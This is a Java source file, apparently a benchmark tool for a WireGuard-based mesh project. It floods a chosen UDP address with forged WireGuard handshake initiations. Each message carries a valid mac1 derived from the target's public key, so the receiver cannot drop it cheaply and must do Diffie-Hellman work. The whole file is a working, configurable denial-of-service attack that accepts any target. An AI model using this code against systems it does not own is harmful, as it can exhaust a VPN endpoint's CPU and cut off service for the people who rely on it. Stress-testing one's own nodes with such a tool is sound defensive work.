package io.tunnelmesh.bench.flood;

import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.util.Base64;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import org.bouncycastle.crypto.digests.Blake2sDigest;

/**
 * Floods one UDP address with WireGuard handshake initiations whose mac1 is valid for the target's public key
 * (so a receiver cannot discard them before its handshake logic), at a paced rate, as an attacker who knows
 * the node's public key would. The rest of each message is random, so it costs the target a Diffie-Hellman
 * unless it is under load and demands a cookie first. Aimed at a closed port, the same sender costs the same.
 *
 * <pre>InitiationFlood HOST:PORT PUBLIC_KEY_BASE64 RATE_PER_SECOND SECONDS</pre>
 *
 * Prints how many it sent and at what rate.
 */
public final class InitiationFlood {
    private static final int LENGTH = 148;
    private static final int MAC1_OFFSET = 116;
    /** Distinct messages cycled through: a target's replay checks never see the same one twice in a row. */
    private static final int MESSAGES = 4096;
    private static final long TICK_NANOS = TimeUnit.MILLISECONDS.toNanos(1);

    private InitiationFlood() {
    }

    public static void main(String[] args) throws Exception {
        if (args.length != 4) {
            System.err.println("usage: InitiationFlood HOST:PORT PUBLIC_KEY_BASE64 RATE_PER_SECOND SECONDS");
            System.exit(2);
        }
        int colon = args[0].lastIndexOf(':');
        InetSocketAddress target = new InetSocketAddress(args[0].substring(0, colon), Integer.parseInt(args[0].substring(colon + 1)));
        byte[] publicKey = Base64.getDecoder().decode(args[1].trim());
        long rate = Long.parseLong(args[2]);
        long seconds = Long.parseLong(args[3]);
        ByteBuffer[] messages = messages(publicKey, new SecureRandom());
        long sent = 0;
        long start = System.nanoTime();
        long end = start + TimeUnit.SECONDS.toNanos(seconds);
        try (DatagramChannel channel = DatagramChannel.open()) {
            channel.connect(target);
            long tick = start;
            while (tick - end < 0) {
                long due = (tick - start + TICK_NANOS) * rate / 1_000_000_000L;
                for (; sent < due; sent++) {
                    ByteBuffer m = messages[(int) (sent % MESSAGES)];
                    m.clear();
                    try {
                        channel.write(m);
                    } catch (java.net.PortUnreachableException e) {
                        // the closed port's ICMP answer, reported on a connected socket: keep sending
                    }
                }
                tick += TICK_NANOS;
                long wait = tick - System.nanoTime();
                if (wait > 0) {
                    LockSupport.parkNanos(wait);
                }
            }
        }
        double elapsed = (System.nanoTime() - start) / 1e9;
        System.out.printf("sent %d initiations in %.1f s: %.0f/s%n", sent, elapsed, sent / elapsed);
    }

    /** Random initiations (type 1, random sender index and contents) each with a valid mac1 and no mac2. */
    private static ByteBuffer[] messages(byte[] publicKey, SecureRandom random) {
        byte[] macKey = hash("mac1----".getBytes(StandardCharsets.US_ASCII), publicKey);
        ByteBuffer[] out = new ByteBuffer[MESSAGES];
        for (int i = 0; i < MESSAGES; i++) {
            byte[] m = new byte[LENGTH];
            random.nextBytes(m);
            ByteBuffer b = ByteBuffer.wrap(m).order(ByteOrder.LITTLE_ENDIAN);
            b.putInt(0, 1);
            Blake2sDigest mac = new Blake2sDigest(macKey, 16, null, null);
            mac.update(m, 0, MAC1_OFFSET);
            mac.doFinal(m, MAC1_OFFSET);
            java.util.Arrays.fill(m, MAC1_OFFSET + 16, LENGTH, (byte) 0);
            out[i] = ByteBuffer.allocateDirect(LENGTH).put(m).flip();
        }
        return out;
    }

    private static byte[] hash(byte[] a, byte[] b) {
        Blake2sDigest d = new Blake2sDigest(256);
        d.update(a, 0, a.length);
        d.update(b, 0, b.length);
        byte[] h = new byte[32];
        d.doFinal(h, 0);
        return h;
    }
}
